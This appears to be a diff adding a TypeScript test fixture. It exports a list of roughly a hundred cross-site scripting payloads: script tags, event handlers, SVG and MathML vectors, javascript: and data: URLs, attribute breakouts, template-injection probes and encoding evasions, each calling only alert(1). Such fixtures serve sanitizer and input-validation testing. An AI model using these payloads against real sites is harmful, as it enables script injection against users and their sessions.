@@ -1,0 +1,136 @@
+/**
+ * Text that would run as a program wherever an app takes text for markup, an address, a style or a template. Each
+ * tries to call `alert`, is one line, and fits in any field.
+ */
+
+const tags = [
+  "<script>alert(1)</script>",
+  "<SCRIPT>alert(1)</SCRIPT>",
+  "<script >alert(1)</script >",
+  "<script/x>alert(1)</script>",
+  "<script src=data:,alert(1)></script>",
+  '<script type="module">alert(1)</script>',
+  "<scr<script>ipt>alert(1)</scr</script>ipt>",
+  "<<script>alert(1)//<</script>",
+  "<script>alert(1)<!--",
+  "</script><script>alert(1)</script>",
+  "</title><script>alert(1)</script>",
+  "</textarea><script>alert(1)</script>",
+  "</style><script>alert(1)</script>",
+  "</noscript><script>alert(1)</script>",
+  "--><script>alert(1)</script>",
+  "]]><script>alert(1)</script>",
+  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+  "<iframe src=javascript:alert(1)></iframe>",
+  "<object data=javascript:alert(1)></object>",
+  "<embed src=javascript:alert(1)>",
+  "<base href=javascript:alert(1)//>",
+  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+  "<link rel=stylesheet href=data:text/css,*{color:red}>",
+  "<form action=javascript:alert(1)><button>x</button></form>",
+  "<template><script>alert(1)</script></template>",
+];
+
+const handlers = [
+  "<img src=x onerror=alert(1)>",
+  "<img src=x onerror='alert(1)'>",
+  "<img/src=x/onerror=alert(1)>",
+  "<IMG SRC=x OnErRoR=alert(1)>",
+  "<img src onerror=alert`1`>",
+  "<image src=x onerror=alert(1)>",
+  "<img srcset=x onerror=alert(1)>",
+  "<body onload=alert(1)>",
+  "<input autofocus onfocus=alert(1)>",
+  "<select autofocus onfocus=alert(1)>",
+  "<textarea autofocus onfocus=alert(1)>",
+  "<details open ontoggle=alert(1)>",
+  "<video src=x onerror=alert(1)></video>",
+  "<video><source onerror=alert(1)></video>",
+  "<audio src=x onerror=alert(1)></audio>",
+  "<marquee onstart=alert(1)>x</marquee>",
+  "<a href=# onclick=alert(1)>x</a>",
+  "<p onpointerover=alert(1)>x</p>",
+  "<div style=animation-name:x onanimationstart=alert(1)>",
+  "<button popovertarget=x onclick=alert(1)>x</button>",
+  "<dialog open onclose=alert(1)><form method=dialog>",
+  "<x tabindex=1 onfocus=alert(1)>",
+  "<object onerror=alert(1) data=x></object>",
+  "<iframe onload=alert(1)></iframe>",
+  "<style onload=alert(1)></style>",
+];
+
+const drawings = [
+  "<svg onload=alert(1)>",
+  "<svg/onload=alert(1)>",
+  "<svg><script>alert(1)</script></svg>",
+  "<svg><script href=data:,alert(1) />",
+  "<svg><animate onbegin=alert(1) attributeName=x>",
+  "<svg><set onbegin=alert(1) attributeName=x>",
+  "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
+  "<svg><use href=data:image/svg+xml,x#x></svg>",
+  "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
+  "<svg><style><img src=x onerror=alert(1)></style></svg>",
+  "<math><a xlink:href=javascript:alert(1)>x</a></math>",
+  "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
+];
+
+const addresses = [
+  "javascript:alert(1)",
+  "JaVaScRiPt:alert(1)",
+  "javascript://%0aalert(1)",
+  "javascript&colon;alert(1)",
+  "javascript&#58;alert(1)",
+  "data:text/html,<script>alert(1)</script>",
+  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+  "vbscript:alert(1)",
+  "//example.invalid/<script>alert(1)</script>",
+  "<a href=javascript:alert(1)>x</a>",
+];
+
+const breakouts = [
+  '"><script>alert(1)</script>',
+  "'><script>alert(1)</script>",
+  '" onfocus=alert(1) autofocus x="',
+  "' onfocus=alert(1) autofocus x='",
+  "` onfocus=alert(1) autofocus x=`",
+  '"/><img src=x onerror=alert(1)>',
+  "';alert(1)//",
+  '";alert(1)//',
+  "\\';alert(1)//",
+  "*/alert(1)/*",
+  "-alert(1)-",
+  "$" + "{alert(1)}",
+  "{{constructor.constructor('alert(1)')()}}",
+  "{{7*7}}[[7*7]]<%=7*7%>#{7*7}",
+  "<%= alert(1) %>",
+  "@import 'javascript:alert(1)';",
+  "x:expression(alert(1))",
+  "url(javascript:alert(1))",
+  '{"__html":"<img src=x onerror=alert(1)>"}',
+  '{"type":"script","props":{"children":"alert(1)"}}',
+  "__proto__",
+  "constructor[prototype][x]=alert(1)",
+];
+
+const letters = [
+  "&lt;script&gt;alert(1)&lt;/script&gt;",
+  "&#60;script&#62;alert(1)&#60;/script&#62;",
+  "%3Cscript%3Ealert(1)%3C/script%3E",
+  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+  "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
+  "<scr\u0130pt>alert(1)</scr\u0130pt>",
+  "<\u017fcript>alert(1)</\u017fcript>",
+  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+  "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
+  "<img src=x onerror=\uff41lert(1)>",
+];
+
+/** 100 and more of them, each once. */
+export const hostileStrings: readonly string[] = [
+  ...tags,
+  ...handlers,
+  ...drawings,
+  ...addresses,
+  ...breakouts,
+  ...letters,
+];
